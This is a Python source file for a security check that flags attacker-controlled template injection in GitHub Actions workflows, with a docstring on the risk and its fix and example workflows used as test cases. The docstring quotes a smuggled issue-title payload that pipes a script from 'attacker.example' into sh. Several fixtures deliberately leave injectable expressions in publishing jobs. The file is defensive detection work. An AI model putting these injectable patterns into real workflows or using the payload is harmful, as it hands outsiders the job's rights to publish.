"""Attacker-controlled expression is expanded in a script.

`${{ }}` is replaced before the script runs: the value becomes part of its code.

## Why it matters

A title such as `"; curl attacker.example | sh; "` in `run: echo "${{ github.event.issue.title }}"`
is not printed but run, with all rights of the job. In a release job these are the rights to
publish. It is high where an outsider can set the value under an event that starts the job, and
medium where it takes write access (inputs of a manual start, names of branches and tags, fields
of a release): then it turns the right to push a tag into the right to publish.

## How to fix

Hand the value over as an environment variable, which the shell does not read as code:

    - run: ./announce "$TAG"
      env:
        TAG: ${{ github.event.release.tag_name }}

For `actions/github-script`, read `process.env.TAG` or `context.payload`. Names of the repository,
numbers, commit ids and the results of comparisons cannot carry code and pass. A variable is code
again where `eval`, `bash -c "…"`, `node -e "…"` or `xargs sh -c "…"` reads its value: hand it to
them as an argument.

## Deviations

This check follows values further than zizmor's rule of the same name, and judges by who can set
them: through variables (`env`, `$GITHUB_ENV`), inputs and outputs of called workflows and
composite actions, outputs of steps and jobs and the matrix, and only under events that can reach
the step. Of a script it knows what it prints from the event, from `gh` and from `git`; of an
action, what well-known ones hand on. An output that it cannot follow is unknown where people
without write access start the job, and passes elsewhere, as do numbers, names of users, and
inputs that are a choice, a number or a boolean.
Names of the repository and values that the workflow itself sets pass, of which zizmor tells too,
partly to its pedantic users.
"""

from __future__ import annotations

from collections.abc import Iterator

from msgspec.structs import replace

from audits.analysis.exposure.unsafe_steps import Entrance, entrances
from audits.analysis.exposure.ways_in import Way
from audits.analysis.second_parsing import may_be_read_again
from audits.analysis.taint import Taint, Tracer
from audits.analysis.untrusted_inputs import Setter, code_of
from audits.checks.api import (
    GITHUB_SCRIPT_INJECTION,
    GITHUB_SECURE_USE,
    NPM_RELEASE_OF_CHECKOUT,
    Area,
    Clean,
    Example,
    Finding,
    Location,
    Need,
    Outcome,
    Repository,
    Scalar,
    Severity,
    StepSite,
    Unknown,
    Unseen,
    Verdict,
    WayIn,
    check,
)
from audits.expressions.syntax import fences

_WORKFLOW = """\
on: %s
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write}
    env:
      NAME: ${{ github.head_ref }}
    steps:
      - %s
      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
"""
_MOST_USERS = 16
_ECHO = "run: echo '${{ %s }}'%s"
_MARKED = "  # !"
_RELEASE = "{release: {types: [published]}}"
_CHOICE = "{workflow_dispatch: {inputs: {kind: {type: choice, options: [a, b]}}}}"
_SCRIPT = (
    "uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd # v8.0.0\n"
    "        with:\n          script: |\n            log('${{ github.event.issue.title }}')  # !"
)
_OUTPUT = """\
on: %s
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write}
    steps:
      - id: pr
        %s
      - run: echo "${{ steps.pr.outputs.ref }}"%s
      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
"""
_VIEW = 'run: echo "ref=$(gh pr view 1 --json %s -q .%s)" >> "$GITHUB_OUTPUT"'
_CALLED = """\
on: {workflow_call: {inputs: {tag: {type: string}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ inputs.tag }}  # !
      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
"""
_CALLER = """\
on: {release: {types: [published]}}
jobs:
  call:
    uses: ./.github/workflows/publish.yml
    with: {tag: '${{ github.event.release.tag_name }}'}
"""
_BESIDE = """\
on:
  issues:%s
permissions: {contents: %s}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"%s
"""


@check(
    area=Area.INTEGRITY,
    severity=Severity.HIGH,
    links=(GITHUB_SCRIPT_INJECTION, GITHUB_SECURE_USE),
    any_workflow=True,
    zizmor="template-injection",
    examples=(
        Example(
            name="the branch of a pull request",
            workflow=_WORKFLOW % ("pull_request_target", _ECHO % ("github.head_ref", _MARKED)),
            severity=Severity.HIGH,
        ),
        Example(
            name="through a variable of the job",
            workflow=_WORKFLOW % ("pull_request_target", _ECHO % ("env.NAME", _MARKED)),
            severity=Severity.HIGH,
        ),
        Example(
            name="an input that an action runs",
            workflow=_WORKFLOW % ("[issues, release]", _SCRIPT),
            severity=Severity.HIGH,
        ),
        Example(
            name="the tag of a release",
            workflow=_WORKFLOW % (_RELEASE, _ECHO % ("github.event.release.tag_name", _MARKED)),
            severity=Severity.MEDIUM,
        ),
        Example(
            name="an input, by way of a called workflow",
            workflow=_CALLER,
            files={".github/workflows/publish.yml": _CALLED},
            severity=Severity.MEDIUM,
        ),
        Example(
            name="the output of a step, which prints a branch's name",
            workflow=_OUTPUT % ("issue_comment", _VIEW % ("headRefName", "headRefName"), _MARKED),
            severity=Severity.HIGH,
        ),
        Example(
            name="the output of a step, which prints a number",
            workflow=_OUTPUT % ("issue_comment", _VIEW % ("number", "number"), ""),
        ),
        Example(
            name="the output of an unknown action",
            workflow=_OUTPUT % ("issue_comment", "uses: acme/find@v1", ""),
            outcome=Outcome.UNKNOWN,
        ),
        Example(
            name="the same where only a release starts it",
            workflow=_OUTPUT % (_RELEASE, "uses: acme/find@v1", ""),
        ),
        Example(
            name="a variable that a second shell reads as code",
            workflow=_WORKFLOW % ("pull_request_target", 'run: eval "echo $NAME"' + _MARKED),
            severity=Severity.HIGH,
        ),
        Example(
            name="a variable that the second shell reads as a variable",
            workflow=_WORKFLOW % ("pull_request_target", "run: bash -c 'echo \"$NAME\"'"),
        ),
        Example(
            name="a choice",
            workflow=_WORKFLOW % (_CHOICE, _ECHO % ("inputs.kind", "")),
        ),
        Example(
            name="a field that this event does not have",
            workflow=_WORKFLOW % (_RELEASE, _ECHO % ("github.head_ref || env.NAME", "")),
        ),
        Example(
            name="the repository's name, and a comparison",
            workflow=_WORKFLOW
            % ("push", _ECHO % ("github.repository }} ${{ github.ref == 'refs/heads/main'", "")),
        ),
        Example(
            name="a variable that the shell reads",
            workflow=_WORKFLOW
            % (_RELEASE, 'run: echo "$TAG"\n        env:\n          TAG: ${{ github.ref_name }}'),
        ),
        Example(
            name="beside the release, from where a path leads to it",
            workflow=_BESIDE % ("", "write", "  # !"),
            files={".github/workflows/publish.yml": NPM_RELEASE_OF_CHECKOUT},
            severity=Severity.HIGH,
        ),
        Example(
            name="beside the release, and no path leads on",
            workflow=_BESIDE % ("", "read", ""),
            files={".github/workflows/publish.yml": NPM_RELEASE_OF_CHECKOUT},
        ),
    ),
)
def template_injection(repo: Repository) -> Iterator[Verdict]:
    """Judge every script, and every input that an action runs as code."""
    by_place = {_place(each.way): each for each in entrances(repo) if each.way.kind is WayIn.WORDS}
    for site in repo.steps():
        for text in code_of(site.step):
            yield from _judged(repo, site, text, by_place)
    # What is left stands outside releases, and leads to one.
    yield from map(_on_path, by_place.values())


_Place = tuple[Location, str]


def _place(way: Way) -> _Place:
    return way.at, way.anchor


def _on_path(entrance: Entrance) -> Finding:
    """The fault in a workflow outside releases from which a path leads to a publication."""
    way = entrance.way
    return Finding(
        message=f"`{way.anchor}` becomes code, and anyone sets it (`{way.event}`)",
        at=way.at,
        job=way.view.job,
        anchor=way.anchor,
        severity=entrance.severity,
        because=entrance.because,
        concerns=entrance.publications,
    )


def _judged(
    repo: Repository, site: StepSite, text: Scalar, by_place: dict[_Place, Entrance]
) -> Iterator[Verdict]:
    """The faults of a text, for all jobs that run it; or a doubt, or a pass."""
    may_inject = any(fences(text.value)) or may_be_read_again(text.value)
    sites = list(_sites(repo, site)) if may_inject else []
    found: dict[tuple[int, str], Taint] = {}
    for each in sites:
        for line, taint in _settable(repo, each, text):
            known = found.get((line, taint.context.name))
            if known is None or taint.setter > known.setter:
                found[line, taint.context.name] = taint
    for (line, _), taint in found.items():
        finding = _finding(site, line, taint)
        entrance = by_place.pop((finding.at, finding.anchor), None)
        is_beside = site.job is not None and site.job not in repo.graph.release_jobs
        yield _on_path(entrance) if entrance is not None and is_beside else finding
    lost = next((lost for each in sites if (lost := _lost(repo, each, text))), "")
    if lost:
        reason = f"{lost} was not followed, and anyone can start the job"
        unseen = Unseen(need=Need.WORKFLOW, reason=reason)
        yield Unknown(at=site.step.at, job=site.job, unseen=unseen)
    elif not found:
        yield Clean(at=site.step.at, job=site.job)


def _sites(repo: Repository, site: StepSite) -> Iterator[StepSite]:
    """The step, in each job that runs it: a composite action may have several."""
    users = repo.graph.action_users.get(site.path, ()) if site.action is not None else ()
    if not users:
        yield site
    for job in users[:_MOST_USERS]:
        yield replace(site, job=job)


def _lost(repo: Repository, site: StepSite, text: Scalar) -> str:
    """What of a text was not followed in a job that people without write access start."""
    tracer = Tracer(repo, site)
    untraced = tracer.untraced(text.value)
    return untraced[0] if untraced and tracer.is_open_to_outsiders else ""


def _settable(repo: Repository, site: StepSite, text: Scalar) -> list[tuple[int, Taint]]:
    file = repo.file(site.path)
    source = file.text if file else ""
    found: dict[tuple[int, str], Taint] = {}
    for offset, taint in Tracer(repo, site).code_taints(text):
        found.setdefault((text.line_at(offset, source), taint.context.name), taint)
    return [(line, taint) for (line, _), taint in found.items()]


def _finding(site: StepSite, line: int, taint: Taint) -> Finding:
    by_anyone = taint.setter is Setter.OUTSIDER
    who = "anyone" if by_anyone else "whoever can write to the repository"
    becomes = "is read as code by a second parser" if taint.is_read_again else "becomes code"
    return Finding(
        message=f"`{taint.context.name}` {becomes}, and {who} sets it (`{taint.event}`)",
        at=Location(path=site.path, line=line),
        job=site.job,
        anchor=taint.context.name,
        severity=None if by_anyone else Severity.MEDIUM,
        because="" if by_anyone else "it takes write access to set the value",
    )
